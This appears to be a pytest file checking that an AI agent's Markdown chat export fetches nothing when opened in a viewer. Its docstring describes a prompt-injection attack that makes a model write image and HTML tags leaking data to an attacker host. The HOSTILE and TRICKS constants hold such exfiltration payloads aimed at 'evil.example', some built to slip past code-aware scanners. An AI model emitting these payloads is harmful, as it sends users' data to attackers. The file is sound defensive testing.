"""Attack: a hostile model answer (steered by a prompt injection in a file or a tool result)
writes Markdown that fetches from the attacker when the /export document is opened in a
Markdown viewer (an editor's preview, a code host, a notes app): an image whose address
carries what the model read (`![](https://evil.example/c?d=SECRET)`), a reference-style
image, or raw HTML (`<img src=...>`, `<iframe>`). In the terminal the chat shows an image as
its address and fetches nothing; the export kept the person's and the model's prose as live
Markdown, so opening the file sent the data. Prose keeps its Markdown (emphasis, lists, code),
but nothing in it may load anything by itself. The real export, rendered by markdown-it with
HTML on, as CommonMark viewers render it."""

from __future__ import annotations

from pathlib import Path

from markdown_it import MarkdownIt

from agent.session.export import export_markdown
from agent.session.store import LoadedSession, SessionHeader

LEAK = "https://evil.example/c?d=SECRET"
HOSTILE = (
    f"Here is the **summary**.\n\n![status]({LEAK})\n\n"
    f"And ![ref][pixel] inline.\n\n[pixel]: {LEAK}\n\n"
    f'<img src="{LEAK}">\n\n'
    f'Inline <img src="{LEAK}"> too, and <iframe src="{LEAK}"></iframe>.\n\n'
    f'<picture><source srcset="{LEAK}"></picture>\n\n'
    "Code stays code: `Vec<String>` and `![x](y)`.\n\n"
    '```html\n<img src="local.png">\n```\n'
)


# Tricks against a scanner that leaves code alone: a backslash makes a backtick text, a fence
# opener with a backtick in its info string is no fence, an autolink holding a backtick wins
# over a code span, HTML indented under a list item, a fence that is never closed.
TRICKS = (
    f'\\`<img src="{LEAK}">\\`',
    f'``` not`a fence\n<img src="{LEAK}">\n```',
    f'<https://a.example/`> <img src="{LEAK}"> `',
    f'- item\n\n    <img src="{LEAK}">',
    f'> quoted\n> <img src="{LEAK}">',
    f'~~~\ncode\n~~~\n<img src="{LEAK}">',
)


def rendered(text: str) -> str:
    return MarkdownIt("commonmark", {"html": True}).render(text)


def test_model_and_person_prose_in_an_export_fetches_nothing_when_opened() -> None:
    header = SessionHeader("20261204-080000-abcdef", "2026-12-04T08:00:00+00:00", "/p", "m", "0")
    events = [
        {"type": "user", "content": HOSTILE, "n": 1},
        {"type": "assistant", "content": HOSTILE, "n": 2},
        {"type": "compaction", "summary": HOSTILE, "through": 2},
    ]
    loaded = LoadedSession(Path("unused.jsonl"), header, events, [])
    html = rendered(export_markdown(loaded))
    for tag in ("<img", "<iframe", "<source", "<picture"):
        assert tag not in html, tag
    # What the prose said is still there to read, Markdown and code intact.
    assert html.count("<strong>summary</strong>") == 3
    assert html.count("<code>Vec&lt;String&gt;</code>") == 3
    assert html.count("<code>![x](y)</code>") == 3
    assert html.count("&lt;img src=&quot;local.png&quot;&gt;") >= 3  # the fenced block
    assert html.count(LEAK.replace("&", "&amp;")) >= 3  # addresses shown, not fetched


def test_tricks_that_pass_for_code_fetch_nothing_either() -> None:
    header = SessionHeader("20261204-080000-abcdef", "2026-12-04T08:00:00+00:00", "/p", "m", "0")
    events = [{"type": "assistant", "content": trick, "n": n} for n, trick in enumerate(TRICKS)]
    html = rendered(export_markdown(LoadedSession(Path("u.jsonl"), header, events, [])))
    assert "<img" not in html
